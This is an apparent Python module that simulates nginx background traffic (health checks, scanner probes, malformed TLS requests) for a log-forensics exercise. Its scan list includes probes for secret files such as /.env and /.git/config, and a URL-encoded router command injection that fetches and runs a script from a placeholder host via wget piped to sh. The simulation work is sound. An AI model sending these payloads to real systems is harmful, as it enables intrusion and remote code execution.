"""nginx lines no LiteLLM row stands behind: balancer health checks, internet scanners, malformed requests."""
from __future__ import annotations

import numpy as np
import pandas as pd

from forensics.simulate import ids
from forensics.simulate.catalog import DEFAULT_WINDOW, HOUR, NETWORK, US, Window

# one row per nginx log line; -1 / "" mean absent (no upstream, no header)
EVENT_DEFAULTS: dict[str, object] = {
    "t_recv": 0, "t_log": 0, "remote_addr": "", "remote_user": "", "request": "", "status": 0, "bytes_sent": 0,
    "request_length": 0, "referer": "", "ua": "", "xff": "", "upstream_addr": "", "upstream_status": -1,
    "upstream_us": -1, "upstream_length": -1, "nginx_rid": "", "call_id": "",
}
EVENT_COLUMNS = list(EVENT_DEFAULTS)

HEALTH_INTERVAL_S = 60
SCANS_PER_HOUR = 3.0
# (request line, status when proxied to LiteLLM, response bytes)
SCAN_REQUESTS = (
    ("GET /.env HTTP/1.1", 404, 22), ("GET /.git/config HTTP/1.1", 404, 22),
    ("GET /wp-login.php HTTP/1.1", 404, 22), ("GET /wp-admin/setup-config.php?step=1 HTTP/1.1", 404, 22),
    ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, 22),
    ("GET /actuator/env HTTP/1.1", 404, 22), ("GET /phpmyadmin/index.php HTTP/1.1", 404, 22),
    ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country="
     "$(id%3E%60wget+-O-+http%3A%2F%2F198.18.0.9%2Fx%7Csh%60) HTTP/1.1", 404, 22),
    ("GET /robots.txt HTTP/1.1", 404, 22), ("GET /favicon.ico HTTP/1.1", 404, 22),
    ("GET / HTTP/1.1", 200, 1243), ("GET /server-status HTTP/1.1", 404, 22),
    ("GET /api/v1/models HTTP/1.1", 404, 22), ("GET /v1/models HTTP/1.1", 200, 431),
    ("HEAD / HTTP/1.1", 200, 0), ("GET /owa/auth/logon.aspx HTTP/1.1", 404, 22),
)
SCAN_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1", "l9explore/1.2.2",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to "
    "identify customers' presences on the Internet. If you would like to be excluded from our scans, please "
    "contact us at scaninfo@paloaltonetworks.com",
    "Mozilla/5.0 (compatible; \"BadBot\" 2.1; +http://198.18.0.9/bot)", "",
)
TLS_HELLO = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def typed(ev: pd.DataFrame) -> pd.DataFrame:
    """Integer columns back to int64 (a column filled from an empty list comes out float)."""
    for col, default in EVENT_DEFAULTS.items():
        if not isinstance(default, str) and ev[col].dtype != np.int64:
            ev[col] = ev[col].astype(np.int64)
    return ev


def event_frame(n: int) -> pd.DataFrame:
    """An n-row table of nginx events at their defaults."""
    data = {c: np.full(n, d, dtype=object if isinstance(d, str) else np.int64) for c, d in EVENT_DEFAULTS.items()}
    return pd.DataFrame(data)


def scanner_ips(rng: np.random.Generator, n: int) -> np.ndarray:
    """Scanner addresses: RFC 2544 benchmark space (never a real host) and IPv6 documentation space."""
    v4 = [f"198.18.{a}.{b}" for a, b in zip(rng.integers(0, 256, n), rng.integers(1, 255, n))]
    v6 = [f"2001:db8:{a:x}::{b:x}" for a, b in zip(rng.integers(1, 0xFFFF, n), rng.integers(1, 0xFFFF, n))]
    return np.where(rng.random(n) < 0.85, v4, v6)


def health_checks(rng: np.random.Generator, window: Window = DEFAULT_WINDOW,
                  interval_s: int = HEALTH_INTERVAL_S) -> pd.DataFrame:
    """The load balancer's GET /health every `interval_s` seconds, answered by nginx itself."""
    t = np.arange(window.start + int(rng.integers(0, interval_s * US)), window.collected_at, interval_s * US)
    t = t + rng.integers(0, 3000, t.size)
    ev = event_frame(t.size)
    ev["t_recv"] = t
    ev["t_log"] = t + rng.integers(50, 400, t.size)
    ev["remote_addr"] = NETWORK.lb_ip
    ev["request"] = "GET /health HTTP/1.1"
    ev["status"] = 200
    ev["bytes_sent"] = 2
    ev["request_length"] = 128
    ev["ua"] = "ELB-HealthChecker/2.0"
    return ev


def scanners(rng: np.random.Generator, window: Window = DEFAULT_WINDOW, volume: float = 1.0) -> pd.DataFrame:
    """Internet background: path probes through the balancer, a TLS handshake and empty requests to port 80."""
    hours = (window.collected_at - window.start) // HOUR if window == DEFAULT_WINDOW else window.hours
    n = int(rng.poisson(SCANS_PER_HOUR * hours * volume))
    ev = event_frame(n)
    t = np.sort(rng.integers(window.start, window.collected_at - 10 * US, n))
    pick = rng.integers(0, len(SCAN_REQUESTS), n)
    ev["t_recv"] = t
    ev["remote_addr"] = NETWORK.lb_ip
    ev["xff"] = scanner_ips(rng, n)
    ev["request"] = [SCAN_REQUESTS[i][0] for i in pick]
    ev["status"] = [SCAN_REQUESTS[i][1] for i in pick]
    ev["bytes_sent"] = [SCAN_REQUESTS[i][2] for i in pick]
    ev["request_length"] = 180 + rng.integers(0, 260, n)
    ev["ua"] = np.array(SCAN_AGENTS, dtype=object)[rng.integers(0, len(SCAN_AGENTS), n)]
    up = rng.integers(1500, 9000, n)
    ev["upstream_addr"] = NETWORK.litellm_upstream
    ev["upstream_status"] = ev["status"]
    ev["upstream_length"] = ev["bytes_sent"]
    ev["upstream_us"] = up
    ev["t_log"] = t + up + rng.integers(200, 1500, n)
    junk = malformed(rng, window, volume)
    return pd.concat([ev, junk], ignore_index=True)


def malformed(rng: np.random.Generator, window: Window = DEFAULT_WINDOW, volume: float = 1.0) -> pd.DataFrame:
    """Requests nginx rejects itself with 400: TLS spoken to the plain-HTTP port, and empty requests."""
    if window == DEFAULT_WINDOW:
        n = 2 * ((window.collected_at - window.start) // (24 * HOUR) + 1)
    else:
        n = int(rng.poisson(2 * window.hours / 24 * volume))
    ev = event_frame(n)
    t = np.sort(rng.integers(window.start, window.collected_at - 10 * US, n))
    tls = np.arange(n) % 2 == 0
    tails = ["".join(chr(b) for b in rng.integers(0, 256, 6)) for _ in range(n)]
    ev["t_recv"] = t
    ev["t_log"] = t + np.where(tls, rng.integers(1000, 40000, n), rng.integers(2 * US, 60 * US, n))
    ev["remote_addr"] = NETWORK.lb_ip
    ev["request"] = np.where(tls, [TLS_HELLO + x for x in tails], "")
    ev["status"] = 400
    ev["bytes_sent"] = np.where(tls, 157, 0)
    ev["request_length"] = np.where(tls, 517, 0)
    return ev


def background(rng: np.random.Generator, window: Window = DEFAULT_WINDOW, volume: float = 1.0) -> pd.DataFrame:
    """All nginx-only lines of the window; `volume` thins them (with the baseline) in long randomized windows."""
    interval = HEALTH_INTERVAL_S if volume >= 1 else int(round(HEALTH_INTERVAL_S / volume))
    ev = typed(pd.concat([health_checks(rng, window, interval), scanners(rng, window, volume)], ignore_index=True))
    ev = ev[ev["t_log"] < window.collected_at].reset_index(drop=True)
    ev["nginx_rid"] = ids.hex_ids(rng, len(ev))
    return ev
